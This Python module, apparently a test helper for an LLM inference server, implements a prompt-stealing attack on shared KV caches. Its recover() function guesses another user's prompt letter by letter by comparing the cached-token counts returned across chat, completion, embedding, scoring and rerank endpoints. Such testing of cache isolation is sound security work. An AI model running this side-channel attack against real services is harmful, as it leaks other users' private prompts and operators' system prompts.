"""An attacker who guesses what somebody else's prompt says, letter by letter.

A prompt that begins with a right guess finds one more token in the cache than one that begins with
a wrong guess; that is all there is to it. The probes write nothing, so that one does not find
another.

Source: the prompt-stealing attacks on shared KV caches, such as arXiv 2411.18191.
"""

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

MODEL = "tiny-shakespeare"
"""The bundled model."""

JUDGE = "judge"
"""A classifier with one class that reads letters as the bundled model does."""

Send = Callable[[str, dict[str, Any]], dict[str, Any]]
"""Sends a body to a path, and returns the answer."""


NO_WRITE = {"cache": {"write": False}}


def _openai_cached(answer: dict[str, Any]) -> int:
    return answer["usage"]["prompt_tokens_details"]["cached_tokens"]


def _openai_total(answer: dict[str, Any]) -> int:
    return answer["usage"]["prompt_tokens"]


@dataclass(frozen=True)
class Endpoint:
    """One way to have a prompt computed.

    Attributes:
        path: Of the route.
        body: Makes the body that sends a text.
        text: Reads the continuation.
        cached: Reads from an answer how many prompt tokens were cached.
        total: Reads how many there were.
        writes_not: What of the body leaves nothing behind.
        limit: Name of the field that bounds the answer.
        model: Name of a model that has it.
        num_recomputed: Tokens of a prompt that are computed whatever is cached.
    """

    path: str
    body: Callable[[str], dict[str, Any]]
    text: Callable[[dict[str, Any]], str] = lambda answer: ""
    cached: Callable[[dict[str, Any]], int] = _openai_cached
    total: Callable[[dict[str, Any]], int] = _openai_total
    writes_not: dict[str, Any] = field(default_factory=lambda: NO_WRITE)
    limit: str = "max_tokens"
    model: str = MODEL
    num_recomputed: int = 1

    def ask(self, send: Send, text: str, max_tokens: int = 1, **more: Any) -> dict[str, Any]:
        """Have a text continued."""
        return send(self.path, {**self.body(text), self.limit: max_tokens, **more})

    def probe(self, send: Send, text: str) -> int:
        """Return how many tokens of a text are cached, leaving nothing behind."""
        return self.cached(self.ask(send, text, **self.writes_not))


def _messages(text: str) -> dict[str, Any]:
    return {"model": MODEL, "messages": [{"role": "user", "content": text}], "temperature": 0}


def _anthropic_total(answer: dict[str, Any]) -> int:
    usage = answer["usage"]
    names = ("input_tokens", "cache_read_input_tokens", "cache_creation_input_tokens")
    return sum(usage[name] or 0 for name in names)


def _scoring(
    path: str, body: Callable[[str], dict[str, Any]], model: str = JUDGE, num_recomputed: int = 1
) -> Endpoint:
    """Return an endpoint that answers with numbers."""

    def named_body(text: str) -> dict[str, Any]:
        return {"model": model, **body(text)}

    return Endpoint(path, named_body, model=model, num_recomputed=num_recomputed)


_ALL = [
    Endpoint(
        "/v1/completions",
        lambda text: {"model": MODEL, "prompt": text, "temperature": 0},
        lambda answer: answer["choices"][0]["text"],
    ),
    Endpoint(
        "/v1/chat/completions",
        _messages,
        lambda answer: answer["choices"][0]["message"]["content"],
    ),
    Endpoint(
        "/v1/messages",
        _messages,
        lambda answer: "".join(part.get("text", "") for part in answer["content"]),
        lambda answer: answer["usage"]["cache_read_input_tokens"],
        _anthropic_total,
    ),
    Endpoint(
        "/v1/responses",
        lambda text: {"model": MODEL, "input": text, "temperature": 0},
        lambda answer: answer["output"][0]["content"][0]["text"],
        lambda answer: answer["usage"]["input_tokens_details"]["cached_tokens"],
        lambda answer: answer["usage"]["input_tokens"],
        limit="max_output_tokens",
    ),
    Endpoint(
        "/ui/play",
        lambda text: {"prompt": text},
        lambda answer: answer["text"],
        lambda answer: sum(origin != "computed" for _, origin in answer["tokens"]),
        lambda answer: len(answer["tokens"]),
        {"write": False},
    ),
    _scoring("/v1/embeddings", lambda text: {"input": text}, MODEL),
    # Of a choice "!", and of the prompt's last token, whose logits are those of the choice.
    _scoring("/v1/choose", lambda text: {"prompt": text, "choices": ["!"]}, MODEL, 2),
    _scoring("/classify", lambda text: {"input": text}),
    # The secret is the query, or the only document.
    *(_scoring(path, lambda q: {"text_1": q, "text_2": "!"}) for path in ("/score", "/v1/score")),
    *(
        _scoring(path, lambda document: {"query": "", "documents": [document]})
        for path in ("/rerank", "/v1/rerank", "/v2/rerank")
    ),
]
ENDPOINTS = {endpoint.path: endpoint for endpoint in _ALL}
"""Every way to have a prompt computed, by path."""

GENERATING = ("/v1/completions", "/v1/chat/completions", "/v1/responses", "/v1/messages")
"""The paths of APIs that answer with text."""


def recover(send: Send, endpoint: Endpoint, known: str, alphabet: str, length: int) -> str:
    """Guess what follows a known beginning of somebody else's prompt.

    Args:
        send: The attacker's own access.
        endpoint: Through which.
        known: The beginning.
        alphabet: Letters to try.
        length: How many to guess.

    Returns:
        As far as one letter stood out among all others.
    """
    found = ""
    while len(found) < length:
        hits = {letter: endpoint.probe(send, known + found + letter + "~") for letter in alphabet}
        best = max(hits.values())
        winners = [letter for letter, count in hits.items() if count == best]
        if len(winners) != 1:
            return found
        found += winners[0]
    return found
